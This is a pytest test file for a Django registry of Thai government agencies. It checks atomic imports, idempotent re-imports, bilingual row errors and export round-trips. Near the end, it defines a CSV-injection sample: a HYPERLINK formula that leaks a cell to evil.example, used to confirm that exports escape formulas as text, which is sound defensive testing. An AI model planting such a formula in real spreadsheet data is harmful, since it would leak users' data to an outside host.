"""A registry file is imported whole or not at all, and importing it again changes nothing."""

import io

import pytest
import tablib
from django.utils import translation
from openpyxl import load_workbook

from agencies.models import Agency, Province
from agencies.resources import AgencyResource, ProvinceResource, ProvincialUnitTypeResource
from agencies.services import RegistryImportError, RowError, registry_import
from agencies.tests.factories import DepartmentFactory, MinistryFactory, ProvinceFactory

HEADERS = "code,name_th,name_en,level,award_group,ministry,province,unit_type,parent,active"


def csv_dataset(*rows: str) -> tablib.Dataset:
    return tablib.Dataset().load("\n".join([HEADERS, *rows]), format="csv")


@pytest.fixture(autouse=True)
def english():
    """Messages are compared in English here; the Thai ones are checked once at the end."""
    with translation.override("en"):
        yield


@pytest.fixture
def registry(db):
    MinistryFactory(code="MOT", name_th="กระทรวงคมนาคม", name_en="Ministry of Transport")
    ProvinceFactory(code="TH-50", name_th="เชียงใหม่", name_en="Chiang Mai", region="north")


def test_import_creates_agencies_with_their_ministry(registry):
    summary = registry_import(
        resource_class=AgencyResource,
        dataset=csv_dataset(
            "DRR,กรมทางหลวงชนบท,Department of Rural Roads,department,service,MOT,,,,1",
            "DOH,กรมทางหลวง,Department of Highways,department,service,MOT,,,,1",
        ),
    )

    assert (summary.created, summary.updated, summary.unchanged) == (2, 0, 0)
    drr = Agency.objects.get(code="DRR")
    assert (drr.name_en, drr.ministry.code, drr.award_group) == (
        "Department of Rural Roads",
        "MOT",
        "service",
    )


def test_reimporting_the_same_file_changes_nothing(registry):
    dataset = csv_dataset(
        "DRR,กรมทางหลวงชนบท,Department of Rural Roads,department,service,MOT,,,,1"
    )
    registry_import(resource_class=AgencyResource, dataset=dataset)
    before = list(Agency.objects.values())

    summary = registry_import(resource_class=AgencyResource, dataset=dataset)

    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 1)
    assert list(Agency.objects.values()) == before


def test_import_with_bad_rows_saves_nothing_and_reports_every_bad_row(registry):
    dataset = csv_dataset(
        "DRR,กรมทางหลวงชนบท,Department of Rural Roads,department,service,MOT,,,,1",
        "X-1,สำนักงานหนึ่ง,Office One,provincial_unit,,,TH-99,,,1",
        "DRR,กรมซ้ำ,Duplicate Department,department,service,MOT,,,,1",
        "DOH,,Department of Highways,department,service,MOT,,,,1",
        "DLT,กรมการขนส่งทางบก,Department of Land Transport,ministry,service,MOT,,,,1",
    )

    with pytest.raises(RegistryImportError) as raised:
        registry_import(resource_class=AgencyResource, dataset=dataset)

    errors = raised.value.errors
    assert {(error.row, error.column) for error in errors} >= {
        (2, "province"),
        (3, "code"),
        (4, "name_th"),
        (5, "level"),
    }
    assert RowError(2, "province", "unknown province code “TH-99”") in errors
    assert (
        RowError(3, "code", "code “DRR” appears more than once in the file (first on row 1)")
        in errors
    )
    assert not any(error.row == 1 for error in errors)
    assert Agency.objects.count() == 0


def test_import_error_message_names_row_column_and_reason(registry):
    with pytest.raises(RegistryImportError) as raised:
        registry_import(
            resource_class=AgencyResource,
            dataset=csv_dataset(
                "DRR,กรมทางหลวงชนบท,Department of Rural Roads,department,service,XXX,,,,1"
            ),
        )

    assert str(raised.value) == "row 1, column ministry: unknown ministry code “XXX”"


def test_import_of_a_department_without_award_group_explains_the_rule(registry):
    with pytest.raises(RegistryImportError) as raised:
        registry_import(
            resource_class=AgencyResource,
            dataset=csv_dataset(
                "DRR,กรมทางหลวงชนบท,Department of Rural Roads,department,,MOT,,,,1"
            ),
        )

    assert [error.message for error in raised.value.errors] == [
        "A department-level agency needs an award group and a ministry, "
        "and no province, unit type or parent."
    ]


def test_import_leaves_existing_agencies_untouched_when_a_row_is_bad(registry):
    DepartmentFactory(code="DRR", name_th="กรมทางหลวงชนบท", ministry__code="MOC")
    dataset = csv_dataset(
        "DRR,ชื่อใหม่,New Name,department,service,MOT,,,,1",
        "DOH,กรมทางหลวง,Department of Highways,department,service,NOPE,,,,1",
    )

    with pytest.raises(RegistryImportError):
        registry_import(resource_class=AgencyResource, dataset=dataset)

    assert Agency.objects.get(code="DRR").name_th == "กรมทางหลวงชนบท"
    assert not Agency.objects.filter(code="DOH").exists()


def test_export_then_import_as_xlsx_is_a_no_op(registry):
    registry_import(
        resource_class=AgencyResource,
        dataset=csv_dataset(
            "DRR,กรมทางหลวงชนบท,Department of Rural Roads,department,service,MOT,,,,1"
        ),
    )
    before = list(Agency.objects.values())
    xlsx = AgencyResource().export().export("xlsx")

    summary = registry_import(
        resource_class=AgencyResource, dataset=tablib.Dataset().load(xlsx, format="xlsx")
    )

    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 1)
    assert list(Agency.objects.values()) == before


# A link that would send the sheet's next cell to another site, and an @ formula (OWASP, "CSV
# Injection"), in names that an exported file carries to whoever opens it.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผล")'
AT_FORMULA = "@SUM(1+1)"


@pytest.fixture
def formula_named(registry):
    registry_import(
        resource_class=AgencyResource,
        dataset=csv_dataset(
            "DRR,กรมทางหลวงชนบท,Department of Rural Roads,department,service,MOT,,,,1"
        ),
    )
    Agency.objects.filter(code="DRR").update(name_th=HYPERLINK, name_en=AT_FORMULA)


def test_xlsx_export_holds_names_like_formulas_as_text(formula_named):
    xlsx = AgencyResource().export().export("xlsx")

    sheet = load_workbook(io.BytesIO(xlsx)).active
    name_th, name_en = sheet["B2"], sheet["C2"]
    assert [(cell.data_type, cell.value) for cell in (name_th, name_en)] == [
        ("s", f"'{HYPERLINK}"),
        ("s", f"'{AT_FORMULA}"),
    ]


def test_csv_export_writes_names_like_formulas_as_text(formula_named):
    (row,) = tablib.Dataset().load(AgencyResource().export().export("csv"), format="csv").dict

    assert (row["name_th"], row["name_en"]) == (f"'{HYPERLINK}", f"'{AT_FORMULA}")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_of_names_like_formulas_is_a_no_op(formula_named, fmt):
    before = list(Agency.objects.values())
    exported = AgencyResource().export().export(fmt)

    summary = registry_import(
        resource_class=AgencyResource, dataset=tablib.Dataset().load(exported, format=fmt)
    )

    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 1)
    assert list(Agency.objects.values()) == before


def test_import_errors_are_reported_in_thai_by_default(registry):
    with translation.override("th"), pytest.raises(RegistryImportError) as raised:
        registry_import(
            resource_class=AgencyResource,
            dataset=csv_dataset("X-1,สำนักงาน,Office,provincial_unit,,,TH-99,,,1"),
        )

    assert "แถว 1 คอลัมน์ province: ไม่พบรหัสจังหวัด “TH-99”" in str(raised.value)


def test_province_import_rejects_an_unknown_region_and_reimport_is_a_no_op(db):
    good = tablib.Dataset().load(
        "code,name_th,name_en,region\nTH-50,เชียงใหม่,Chiang Mai,north", format="csv"
    )
    bad = tablib.Dataset().load(
        "code,name_th,name_en,region\nTH-51,ลำพูน,Lamphun,north\nTH-52,ลำปาง,Lampang,highlands",
        format="csv",
    )

    registry_import(resource_class=ProvinceResource, dataset=good)
    again = registry_import(resource_class=ProvinceResource, dataset=good)
    with pytest.raises(RegistryImportError) as raised:
        registry_import(resource_class=ProvinceResource, dataset=bad)

    assert (again.created, again.updated, again.unchanged) == (0, 0, 1)
    assert [(error.row, error.column) for error in raised.value.errors] == [(2, "region")]
    assert list(Province.objects.values_list("code", flat=True)) == ["TH-50"]


def test_unit_type_import_names_an_unknown_parent_department(db):
    dataset = tablib.Dataset().load(
        "number,code,name_th,name_en,parent\n2,PTO,สำนักงานคลังจังหวัด,Provincial Treasury,CGD",
        format="csv",
    )

    with pytest.raises(RegistryImportError) as raised:
        registry_import(resource_class=ProvincialUnitTypeResource, dataset=dataset)

    assert str(raised.value) == "row 1, column parent: unknown department code “CGD”"
